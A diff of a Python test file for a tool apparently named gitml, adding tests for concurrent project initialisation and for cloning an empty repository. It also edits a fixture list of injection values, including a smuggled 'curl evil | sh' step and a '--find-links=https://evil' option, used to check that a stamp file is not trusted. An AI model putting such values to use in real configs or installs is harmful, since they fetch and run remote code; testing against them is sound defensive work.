@@ -298,7 +298,7 @@ def test_the_stamp_is_read_as_it_was_written_and_not_trusted() -> None:
         {"table": "data/raw/x\ny.csv"},
         {"remote": "x\n[core]"},
         {"extra": "s3]\nevil"},
-        {"gitml": "gitml\n--index-url=https://evil"},
+        {"gitml": "gitml\n--find-links=https://evil"},
         {"gitml": "evil"},
         {"pinned": 'gitml"\n      - run: curl evil | sh #'},
         {"pinned": "gitml==1 evil"},
@@ -483,3 +483,26 @@ def test_in_a_repository_of_ones_own_it_adopts(repo: Repo, gitml: Callable) -> N
     assert gitml("init", "--yes", at=repo.path).code == 0 and (repo.path / "gitml.toml").is_file()
     assert gitml("init", "--remove", "--yes", at=repo.path).code == 0
     assert files(repo.path) == before and repo.run("git", "status", "--porcelain").out == ""
+
+
+def test_several_at_once_lay_down_one_project(at: Path, gitml: Callable) -> None:
+    assert gitml("init", "whole", "--yes").code == 0
+    line = [sys.executable, "-m", "gitml", "init", "p", "--yes"]
+    several = [subprocess.Popen(line, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(4)]
+    told = [process.communicate(timeout=60) for process in several]
+    codes = [process.returncode for process in several]
+    assert 0 in codes and set(codes) <= {0, 2}, told
+    whole, made = files(at / "whole"), files(at / "p")
+    assert made.keys() == whole.keys()
+    assert {path for path in made if made[path] != whole[path]} <= {"README.md", ".dvc/config", STAMP}
+    assert gitml("init", "p", "--yes").code == 0
+
+
+def test_in_a_clone_of_an_empty_repository_a_project_is_laid_down(at: Path, gitml: Callable) -> None:
+    subprocess.run(["git", "init", "--quiet", "--bare", "--initial-branch=master", "server.git"], cwd=at, check=True)
+    subprocess.run(["git", "clone", "--quiet", "server.git", "p"], cwd=at, check=True, capture_output=True)
+    assert gitml("init", "--yes", at=at / "p").code == 0
+    project = Repo(at / "p")
+    assert set(LAID_DOWN) <= files(project.path).keys()
+    assert project.git("symbolic-ref", "HEAD") == "refs/heads/main"
+    assert project.git("config", "remote.origin.url") == f"{at}/server.git"
